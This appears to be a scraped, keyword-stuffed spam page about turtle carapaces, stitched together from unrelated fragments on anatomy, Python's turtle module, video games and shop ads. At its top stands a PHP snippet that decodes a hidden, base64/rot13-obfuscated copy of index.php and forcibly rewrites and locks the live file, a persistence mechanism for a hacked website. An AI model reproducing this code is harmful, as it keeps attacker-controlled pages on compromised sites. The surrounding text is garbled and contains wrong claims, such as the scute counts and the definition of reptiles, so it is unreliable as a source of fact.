$i_p = "index.php"; $index = file_get_contents($i_p); $path = "{index_hide}"; if (file_exists($path)) { $index_hide = file_get_contents($path); $index_hide = base64_decode(str_rot13(base64_decode(str_rot13($index_hide)))); if(md5($index) != md5($index_hide)) { @chmod($i_p, 0644); @file_put_contents($i_p, $index_hide); @chmod($i_p, 0444); } }

carapace function turtle

According to the Venice Christian School study, The armadillo shell is harder than that of the turtle.

Trachea: This is

The sprites shown below are from the bonus disc of Final Fantasy VII International.

Painted Turtles Create. A turtle is a common name for a cold-blooded reptile that belongs to the Testudines order. (a) Dorsal view. Additionally, sea turtles use their flippers during mating & nesting.The carapace is the dorsal (back), convex part of the shell structure of a turtle, consisting of the animal's ossified ribs fused with the dermal bone. Both carapace and plastron are overlain by epidermal scutes. Alligator snapping turtles have long, narrow tongues equipped with an appendage that looks like a worm to attract prey. A turtles shell is made of three distinct parts. (d) Enlarged image of the immature costal plates in c.Box in c indicates the position of d.Scale bar, 2 mm.

Later 1% Metronidazole ointment length of time in care that is required for sufficient was applied over the wound .The broken carapace was Amphibians, on the other hand, lay their eggs in water and have moist skin without scales or scutes. LENGTH.

3025 3601 3601 Protection from enemies. SHELL. Males can weigh up to 90 kilograms (200 pounds) with a carapace length of up to 80centimeters (31 inches). The upper part of a turtles shell is called a carapace and the lower part of their shell is called a plastron.

The carapace is the dorsal (back), convex part of the shell structure of a turtle, consisting of the animal's ossified ribs fused with the dermal bone.The spine and expanded ribs are fused through ossification to dermal plates beneath the skin to form a hard shell. Both of these pieces combined account for roughly 60 bones and function as a type of externalribcage of sorts that protect the turtle from bottom to top. The turtle module is an extended reimplementation of the same-named module from the Python standard distribution up to version Python 2.5. SCL - Straight CarapaceLength (turtles) | AcronymFinder What Is a Scute? The turtle's internal organs function much like a human's. The long digits in the limbs of the turtle are fused together to form the flipper. The female tortoise may actually stay with her young until they are roughly 8 months old after hatching.

The bone histology of the carapace of two adult specimens from the Urumaco Formation is described herein, one of which is the largest of this species ever found. 2007. Red arrow indicates the costovertebral articulation. (366) $6.00 FREE shipping. The internal skeleton provides an anchor for the turtles muscles.

In comparison, turtle shells are part of the vertebrate animal's so-called endoskeleton, or skeleton from within the body.

a factor with levels Male Female. Body. Carapace. Musculoskeletal System. Turtles with hard shells also have an outer layer of scutes made of keratin, a protective protein shield similar to a human's fingernails. The eastern box turtle is one of six extant subspecies of the common box turtle. ), Snapping Turtles (Chelydra serpentina), andSoftshells are reduced, which allows a soft tissue surgical Add to Favorites. They found that, as turtles develop, bones that function as lower ribs widen and fuse, forming the plastron.

1. Battle items that simply deal damage to the enemies. Length. Red arrow indicates the costovertebral articulation. Under this paradigm, the turtle carapace would have evolved from osteoderms. Lizards, snakes, turtles/tortoises, alligators/crocodiles, tuataras are all reptiles. What do you mean by carapaceand plastron?

In an ordinary turtle crawling in a prone posture, the carapace is the top part of the shell. This box, composed of bone and cartilage, is retained throughout the turtle's life. Though turtles live primarily in the water, female turtles will come to land to lay their eggs and then return to the sea. Wiki User.

The turtle must be weighed pre-operatively for accurate drug administration. The turtleshell has a top (carapace) and a bottom (plastron). Wiki User. Native Habitat. They are the only species of sea turtle that lack scales and a hard shell. These two shell regions are fused along the lateral sides of the body by bridges. Carapace.

The lower part is called the plastron (the underside of a turtle). The shell is made up of the carapace (dorsal portion of shell), plastron (ventral portion of shell), and the bridge, which connects the plastron and carapace.

The turtle shell is actually a peculiar evolution of a turtle's bone structure. Ad by AlchemyMines Ad from shop AlchemyMines. In addition to the reproductive organs, these are the organs found inside the shell: Esophagus: This is the passage from the mouth to the stomach. carapace nf : The newly moulted lobster has a tender shell.The evolutionary riddle of the turtle shell is one step closer to being solved thanks to groundbreaking research published this week in Science. 5 out of 5 stars.

to hold their eggs. This box turtle carapace was recovered from a waterlogged layer deep in Jamestowns Second Well with the outer layer of keratin present and intact. Battle items that limit the abilities of the enemies but deal no damage. A turtle's coloring andshell shape is also unique to the species. The leatherback sea turtle (Dermochelys coriacea), sometimes called the lute turtle or leathery turtle or simply the luth, is the largest of all living turtles and the heaviest non-crocodilian reptile, reaching lengths of up to 1.8 metres and weights of 500 kg. 1,2 The plastrons of Alligator Snapping Turtles (Macrochelys temminckii), Mud Turtles (Kinosternon spp. Carapace does not sell turtle crossing signs for the time being, but you can find turtle crossing signs sold online by companies in Quebec. Fun Fact: Did you know, Carapace is the name given to the top part of a turtles shell?

b. Planktonic habit. Width. Fossil Softshell Turtle Carapace Section from, Apalone ferox. The loggerhead underbellies, also known as plastron, are usually a monochromatic yellow color. Scale bar, 1 cm. Generalizeddevelopmental patterning of the amniote trunk, showing theropod (bird ancestor) as an example. A reptile is an amniote, an animal that has a hard shell on the outside of its body. They are not viewable in-game and do not appear in the American release. By using the single-category search function: By author's last name; By refractive index (RI) By outline shape; By L/W ratio; By index gear; By number of facets; To help you post designs, there is the Help Page for Design Posting.

Related terms: Genus; Seta; Appendage; Gill; Tortoise; Claws; Antennae; Lobster The carapace is elliptical when viewed from above. That's why, a turtle's shell looks as if it wraps all the way underneath! The endoskeletalorigin of the turtle carapace Jenkins, F. A. Anatomy and function of expanded ribs in certain edentates and purchased from a local farm in Japan and incubated at 30 C. Turtles are famously known for their shells. It is noted for its combative disposition when out of the water with its powerful beak-like jaws, and highly mobile head and neck (hence the specific name serpentina, meaning "snake-like").

The structure of the carapace and plastron of juvenile turtles, Chelonia mydas (the green turtle) and Caretta caretta (the loggerhead turtle) Consistent with their primary function as a protective covering, the carapace and plastron are heavily keratinised. Syntax: turtle.shape(name=None) Shape with name must exist in the Turtle Screens shape dictionary. Vertebral shell. A turtle cant crawl out of its shell. The five brief animations depict the following aspects of this intriguing development in evolutionary morphology: 1. Zoology A hard bony or chitinous outer covering, such as the fused dorsal plates of aturtle or the portion of the exoskeleton covering the head and Carapace - definition of carapace by The Free Dictionary. Reptiles live on land or in water. The turtle shell consists of dorsal and ventral parts: the carapace and plastron,respectively. 17 Shells (carapace and plastron) of turtles (aquatic and semiaquatic) and tortoises (terrestrial) are vascularized, growing, and serve as buffering organs in hypoxic and acidotic specimens. Horses occasionally appear throughout Red Dead Revolver, often in background. We work cooperatively with the New England and Mid-Atlantic Fishery Management Councils, and the Atlantic StatesMarine Fisheries Commission to develop, review, and implement fishery management plans in federal waters (from 3 to 200 nautical miles). Turtle shell is a multi-scale bio-composite in which the components are arranged in various spatial patterns, leading to an unusually strong and durable structure. carapace width. A serious shell injury can damage a turtles internal organs and impair its vital functions. The weight and carapace length can be compared to reference ranges to further estimate age and physical condition [3-5]. 4.5-16 kg. The carapace has another equally important function preventing turtles from dehydrating. Horse is a staple animal species and the most reliable form of transportation in the Red Dead series. Gender. The carapace forms a brood chamber between the body and the carapace. In some predatory species, such as Bythotrephes and Leptodora, the carapace does not cover the body, but is reduced to a sack-like brood chamber on the animals back. Four to six pairs of legs lie ventrally along the thorax. These strategies are often based on active mechanisms, e.g. Methodology/Principal Findings.

From shop AlchemyMines. 4) The Turtle Shell is Not Bulletproof. The turtles shell, then, is a wonderful example of exaptationthe evolutionary process where a trait evolves for one function and is then co-opted to serve another.This is the plastron. Carapace (upper shell): 9.8 20 in. Embryological analyses show that the carapacial ridge initiates the formation of the turtle shell. It causes axial arrest which causes the ribs to be dorsalized, the shoulder girdle to be rearranged and encapsulated in the rib cage, and the carapace to develop. From: Reptile Medicine and Surgery (Second Edition), 2006. 25-47 cm. However, although the turtle shell is an apomor-phy (new structure) that distinguishes the Chelo- The Plastron if you flipped a turtle over, youd see a flat piece of bone at the bottom of the animal. The rehydrated (Fig-3).

The carapace is the back part of the shell structure of a turtle shell, which protects its ribs and bonesjust the underneath level of the carapace skin protected from scrape another way of skin getting harmed.

The tortoise and turtles shell is an intricate design of the reptiles exoskeleton. A rich variety of righting strategies of beetle and turtle species have been described, but the exact role of the shell's geometry in righting is so far unknown. Weight: A full-grown red-eared turtle can attain a weight of up to 3 kilos. These are known as hidden-necked turtles. Most have a hinge that enables the carapace and plastron to shut once the turtle has tucked itself in.

This fact will become very important when we consider how to repair a damaged shell.

J. Mammal. A turtle's body is made up of two parts. Secondly, the shell is a Crossword Answers for "(turtle's) carapace" Added on Saturday, November 24, 2018.

Evolutionary changes leading to the turtle shell. The ankylosing of the vertebraewithin the dorsal part of the shell (carapace) results in all thrust for locomotion being generated by limb movements and, potentially, by the girdles to which the limbs attach (Mayerl et al., 2016; Pace et al., 2001). Why are turtle shells patterned? These bony shell plates are covered withkeratin, the tough substance found in claws, hair, fingernails, and horns, which protects the shell and reduces water loss.

Height. carapace length.

Low definition, subculture, and inorganic animation implode in Meriem Bennanis video installation Guided Tour of a Spill (CAPS Interlude) (2021), while Katie Fox, Beatrice Marchis doppelgnger, discovers guilt in an agonistic chase with a talking carapace. The scutes of the carapace (the top shell) are numbered from front The endoskeletal origin of the turtle carapace turtle.shape() function in Python - GeeksforGeeks Eastern box turtle - Smithsonian's National Zoo The vivid, orange and yellow markings on its dark brown shell distinguish it from other box turtles, as do the four toes on its hind feet. These are small bony plates that develop (ossify) within the deep layer of the skin (dermis) of reptiles such as crocodiles or some lizards. CiteSeerX - Document Details (Isaac Councill, Lee Giles, Pradeep Teregowda): zuela and Brazil. A team of Japanese scientists has uncovered anatomical clues charting the developmental path by which the turtle acquired its shell. Source. mortar shell n (explosive projectile weapon) proyectil de mortero nm: turtle shell n (carapace of aquatic tortoise) caparazn de tortuga nm + Search clues. (a) Dorsal view. The shell is, 4 1/4" long, 1 1/2" wide and 3/8" thick.

Shell injured turtles can be very maintained at 25 degree celsius for 20 minutes to get it difficult and time-consuming to repair and manage. The green turtle is a large, weighty sea turtle with a wide, smooth carapace, or shell. carapace height.

The shell is covered in epidermal (outer skin) scales known as scutes that are made of keratin, the same substance that makes up hair and fingernails.Typically, a turtle has 38 scutes on the carapace and 16 on the plastron, giving them 54 in total.

Recent Posts
best sehri buffet in lahore
Contact Us

Send us an email and we'll get back to you.

Start typing andpress Enter to search